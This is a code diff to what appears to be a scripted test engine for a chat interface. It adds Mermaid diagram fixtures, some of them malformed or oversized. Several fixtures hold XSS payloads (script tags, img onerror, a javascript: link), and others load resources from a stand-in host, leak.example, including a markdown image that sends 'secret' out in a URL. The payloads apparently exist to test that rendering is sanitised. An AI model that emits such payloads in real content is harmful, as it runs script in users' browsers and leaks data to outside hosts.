@@ -33,6 +33,27 @@ TABLE = (
 )
 
 
+DIAGRAMS = {
+    "flow": "flowchart TD\n  A[提出问题] -->|先看| B{Is it known?}\n"
+    "  B -->|是| C[Answer at once]\n  B -->|否| D[查资料]\n  D --> C\n",
+    "wide": "flowchart LR\n  " + " --> ".join(f"S{n}[Step number {n}]" for n in range(1, 15)) + "\n",
+    "broken": "flowchart TD\n  A[never closed --> B{{\n  --> -->\n",
+    "huge": "flowchart TD\n  A --> B\n" + f"  %% {'x' * 20_000}\n",
+    "script": "flowchart TD\n"
+    "  A[\"<img src=x onerror='window.ran=1'><script>window.ran=1</script>\"] --> B[end]\n"
+    '  click A href "javascript:window.ran=1"\n',
+    "fetch": '%%{init: {"themeCSS": "@import url(https://leak.example/a.css);", "htmlLabels": true}}%%\n'
+    'flowchart TD\n  A["<img src=https://leak.example/b.png>"] --> B\n',
+    "picture": 'flowchart TD\n  A@{ img: "https://leak.example/e.png", label: "x" } --> B\n',
+}
+
+
+def diagram_answer(names: Sequence[str]) -> str:
+    """Return an answer with these of the diagrams, each in a fence, and a sentence behind them."""
+    fences = "".join(f"```mermaid\n{DIAGRAMS[name]}```\n\n" for name in names)
+    return f"How it goes:\n\n{fences}That is all."
+
+
 def long_answer(tokens: int) -> str:
     """Return about so many tokens of the sample answer, repeated."""
     from twokeys.engines.scripted import split_tokens
@@ -59,6 +80,10 @@ def script(request: GenerationRequest) -> Sequence[Step]:
                 "![secret](https://leak.example/x.png?q=secret) and [click](https://out.example/) <img src=x>"
             )
         ]
+    if kind == "diagram":
+        return [Say(diagram_answer(words[1:]), 0.002)]
+    if kind == "open":
+        return [Say(f"```mermaid\n{DIAGRAMS['flow']}```\n\nNow more "), Say("word " * 200, 0.05)]
     if kind == "table":
         pace = 0.02 if "slowly" in words else 0
         return [
